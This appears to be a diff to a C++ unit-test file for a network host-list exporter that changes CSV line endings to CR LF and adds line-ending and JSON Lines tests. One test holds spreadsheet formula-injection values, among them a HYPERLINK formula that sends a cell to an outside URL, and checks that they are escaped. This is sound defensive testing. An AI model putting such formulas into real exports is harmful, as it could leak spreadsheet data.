@@ -1,3 +1,4 @@
+#include <algorithm>
 #include <filesystem>
 #include <fstream>
 
@@ -43,13 +44,43 @@ TEST(ListExport, TabSeparatedTextIsByteExact)
               "10.0.0.2\tAA:BB:CC:DD:EE:FF\t-\t-\t512\tC$;D$;\tWin, 10\t100\tSay \"Hi\" Ltd\r\n");
 }
 
-TEST(ListExport, CsvQuotesEveryFieldDoublesQuotesAndEndsLinesWithCr)
+TEST(ListExport, CsvQuotesEveryFieldDoublesQuotesAndEndsLinesWithCrLf)
 {
     EXPECT_EQ(FormatExport(kRows, ExportType::Csv),
-              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r"
-              "\"10.0.0.1\",\"00:11:22:33:44:55\",\"PC1\",\"\",\"\",\"\",\"\",\"\",\"Intel\"\r"
+              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r\n"
+              "\"10.0.0.1\",\"00:11:22:33:44:55\",\"PC1\",\"\",\"\",\"\",\"\",\"\",\"Intel\"\r\n"
               "\"10.0.0.2\",\"AA:BB:CC:DD:EE:FF\",\"-\",\"-\",\"512\",\"C$;D$;\",\"Win, 10\",\"100\","
-              "\"Say \"\"Hi\"\" Ltd\"\r");
+              "\"Say \"\"Hi\"\" Ltd\"\r\n");
+}
+
+// Line-based tools see one line per row in both forms: every line ends in CR LF, and no
+// CR or LF stands anywhere else.
+TEST(ListExport, EveryFormLineEndsInCrLfOnly)
+{
+    for (const ExportType type : {ExportType::Txt, ExportType::Csv}) {
+        const std::string text = FormatExport(kRows, type);
+        EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 3);
+        EXPECT_EQ(std::count(text.begin(), text.end(), '\r'), 3);
+        for (std::size_t at = text.find('\n'); at != std::string::npos; at = text.find('\n', at + 1)) {
+            EXPECT_EQ(text[at - 1], '\r');
+        }
+    }
+}
+
+TEST(ListExport, JsonLinesCarryStatusColumnsAndChange)
+{
+    std::vector<ResultRow> rows = kRows;
+    rows[1].image = kImageSilent;
+    rows[1].change = "MAC changed";
+    EXPECT_EQ(FormatExport(rows, ExportType::Json),
+              "{\"Status\":\"answered\",\"IP\":\"10.0.0.1\",\"MAC\":\"00:11:22:33:44:55\",\"HostName\":\"PC1\","
+              "\"CPU\":\"\",\"RAM Size\":\"\",\"Share File\":\"\",\"SystemVer\":\"\",\"NetCard Type\":\"\","
+              "\"NetCard Vendor\":\"Intel\",\"Change\":\"\"}\n"
+              "{\"Status\":\"silent\",\"IP\":\"10.0.0.2\",\"MAC\":\"AA:BB:CC:DD:EE:FF\",\"HostName\":\"-\","
+              "\"CPU\":\"-\",\"RAM Size\":\"512\",\"Share File\":\"C$;D$;\",\"SystemVer\":\"Win, 10\","
+              "\"NetCard Type\":\"100\",\"NetCard Vendor\":\"Say \\\"Hi\\\" Ltd\",\"Change\":\"MAC changed\"}\n");
+    EXPECT_EQ(FormatExport({}, ExportType::Json), "");
+    EXPECT_EQ(ExportPath("/tmp/list", ExportType::Json), "/tmp/list.json");
 }
 
 // Host texts that would run as formulas or split a row, in both formats: every field
@@ -62,15 +93,15 @@ TEST(ListExport, HostileHostTextsStayInTheirCells)
     EXPECT_EQ(FormatExport(rows, ExportType::Txt).substr(79),
               "10.0.0.3\t00:11:22:33:44:03\t'=1+2*3\t'@SUM(1+1)\t-\tPC ONE  X\t"
               "'=HYPERLINK(\"http://x/?\"&A2,\"Details\")\t' -1\t'+Vendor\r\n");
-    EXPECT_EQ(FormatExport(rows, ExportType::Csv).substr(78),
+    EXPECT_EQ(FormatExport(rows, ExportType::Csv).substr(79),
               "\"10.0.0.3\",\"00:11:22:33:44:03\",\"'=1+2*3\",\"'@SUM(1+1)\",\"-\",\"PC ONE  X\","
-              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",\"' -1\",\"'+Vendor\"\r");
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",\"' -1\",\"'+Vendor\"\r\n");
 }
 
 TEST(ListExport, EmptyListGivesHeaderOnly)
 {
     EXPECT_EQ(FormatExport({}, ExportType::Csv),
-              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r");
+              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r\n");
 }
 
 TEST(ListExport, ExtensionAppendedOnlyWhenNotContainedCaseSensitive)
